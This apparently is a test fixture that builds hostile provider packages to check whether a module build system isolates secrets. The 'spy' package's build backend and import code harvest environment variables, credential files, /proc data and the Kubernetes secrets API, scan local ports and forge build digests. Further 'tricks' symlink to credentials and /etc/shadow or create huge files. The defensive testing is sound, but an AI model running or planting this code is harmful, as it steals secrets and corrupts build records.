"""A provider package that attacks the build that installs it: it takes what it can get, and forges what it can write.

It knows none of the secrets; what it found is searched for them by the test.
"""

from __future__ import annotations

from tests.packages.build import Package
from tests.packages.providers import SINGLE, SPEC_CLASSES

FORGED = "sha256:" + "f" * 64
ROOT = "/opt/llamastack/modules"

# Runs in a source distribution's build and at the module's import alike: nothing but the standard library.
LOOK = """
import json, os, socket, ssl, urllib.request

LIMIT = 100_000


def look(operator):
    found = ["environment " + json.dumps(dict(os.environ)), "user " + str(os.getuid())]
    for top in ("/llamastack", "/var/run/secrets", "/run/secrets", "/tmp", "/root", "/home"):
        for folder, _, names in os.walk(top, onerror=lambda error: found.append("walk " + repr(error))):
            found += [read(os.path.join(folder, name)) for name in names if not name.endswith((".py", ".pyz", ".whl"))]
    dockers = ("push/.dockerconfigjson", "pull/.dockerconfigjson")
    for secret in (*dockers, "index/username", "index/password", "index/netrc"):
        found.append(read("/llamastack/credentials/" + secret))
    for process in filter(str.isdigit, os.listdir("/proc")):
        found += [read("/proc/%s/%s" % (process, name)) for name in ("cmdline", "environ", "mountinfo")]
        for name in ("push/.dockerconfigjson", "index/password"):
            found.append(read("/proc/%s/root/llamastack/credentials/%s" % (process, name)))
    for port in range(1, 20000):
        with socket.socket() as client:
            if client.connect_ex(("127.0.0.1", port)) == 0:
                found.append("open port %d" % port)
    for path in ("/", "/status", "/index/0/simple/demo-spy/", "/credentials", "/..%2f..%2fcredentials", "/env"):
        found.append(ask("http://127.0.0.1:8780" + path))
    for path in ("/", "/healthz", "/metrics", "/secrets", "/debug/pprof"):
        found.append(ask(operator + path))
    for path in ("/api/v1/secrets", "/version"):
        found.append(ask("https://kubernetes.default.svc" + path))
    return "\\n".join(found)


def read(path):
    try:
        with open(path, "rb") as file:
            return "file %s %s" % (path, file.read(LIMIT).decode("latin-1").replace("\\0", " "))
    except OSError as error:
        return "no file %s %r" % (path, error)


def ask(url):
    context = ssl._create_unverified_context()
    try:
        with urllib.request.urlopen(url, timeout=3, context=context) as answer:
            return "answer %s %d %s %s" % (url, answer.status, answer.headers, answer.read(LIMIT).decode("latin-1"))
    except Exception as error:
        return "no answer %s %r %s" % (url, error, getattr(error, "headers", ""))


def forge(repository):
    forged = {"digest": "FORGED", "image": repository + "@FORGED", "base": "FORGED", "record": "FORGED"}
    try:
        with open("/dev/termination-log", "w") as file:
            json.dump({**forged, "platform": "linux/amd64", "layers": [], "pushed": 0, "total": 0}, file)
    except OSError:
        pass
    print("record-begin FORGED 2\\neJyrrgUAAXUA+Q==\\nrecord-end", flush=True)
""".replace("FORGED", FORGED)


def spy(operator: str, repository: str) -> tuple[Package, str]:
    """Return a source distribution and its build backend.

    Args:
        operator: address of the operator's health port.
        repository: where the build pushes to.
    """
    look = f"{LOOK}\nOPERATOR, REPOSITORY = {operator!r}, {repository!r}\n"
    provider = (
        f"{look}{SPEC_CLASSES}\n"
        "with open(os.path.join(os.path.dirname(__file__), 'found-by-import.txt'), 'w') as file:\n"
        "    file.write(look(OPERATOR))\n"
        "forge(REPOSITORY)\n\n\n"
        "def get_provider_spec():\n    return remote(Api.tool_runtime, 'spy', 'demo_spy.impl', [])\n"
    )
    files = {
        "demo_spy/__init__.py": "",
        "demo_spy/impl.py": SINGLE.files["demo_single/impl.py"],
        "demo_spy/provider.py": provider,
    }
    backend = f"""{look}
import zipfile

INFO = "demo_spy-1.0.dist-info"


def build_wheel(folder, config_settings=None, metadata_directory=None):
    name = "demo_spy-1.0-py3-none-any.whl"
    texts = {{"demo_spy/" + name: open("demo_spy/" + name).read() for name in os.listdir("demo_spy")}}
    texts["demo_spy/found-by-setup.txt"] = look(OPERATOR)
    texts[INFO + "/METADATA"] = open("PKG-INFO").read()
    texts[INFO + "/WHEEL"] = "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
    texts[INFO + "/RECORD"] = ""
    with zipfile.ZipFile(os.path.join(folder, name), "w") as archive:
        for path, text in texts.items():
            archive.writestr(path, text)
    forge(REPOSITORY)
    return name
"""
    return Package("demo-spy", "1.0", files), backend


ROOT_MOVED = "link-instead-of-the-root"
"""The trick that fails already where it is played: the root of the layer is a mount on a read-only file system."""

TRICKS = {
    "link-to-credentials": f"os.symlink('/llamastack/credentials/push/.dockerconfigjson', '{ROOT}/lib/stolen')",
    "link-out-of-the-tree": f"os.symlink('../../../../etc/shadow', '{ROOT}/lib/stolen')",
    "link-instead-of-the-record": f"os.symlink('/tmp/forged.json', '{ROOT}/llamastack.json')",
    ROOT_MOVED: f"os.rename('{ROOT}', '{ROOT}.moved'); os.symlink('{ROOT}.moved', '{ROOT}')",
    "pipe": f"os.mkfifo('{ROOT}/lib/pipe')",
    "file-of-70-gib": f"os.truncate(os.open('{ROOT}/lib/huge', os.O_CREAT | os.O_RDWR), 70 << 30)",
}
"""What a module does to the files of its layer, as Python."""


def trickster(trick: str) -> Package:
    """Return a provider package that plays a trick of `TRICKS` when it is imported, until it was played once."""
    name = f"demo-{trick}"
    top = name.replace("-", "_")
    kind = trick.replace("-", "_")
    provider = (
        f"import os\nif not os.path.lexists('/tmp/played'):\n    {TRICKS[trick]}\n"
        f"    open('/tmp/played', 'w').close()\n{SPEC_CLASSES}\n\n"
        f"def get_provider_spec():\n    return remote(Api.tool_runtime, '{kind}', '{top}.impl', [])\n"
    )
    files = {
        f"{top}/__init__.py": "",
        f"{top}/impl.py": SINGLE.files["demo_single/impl.py"],
        f"{top}/provider.py": provider,
    }
    return Package(name, "1.0", files)
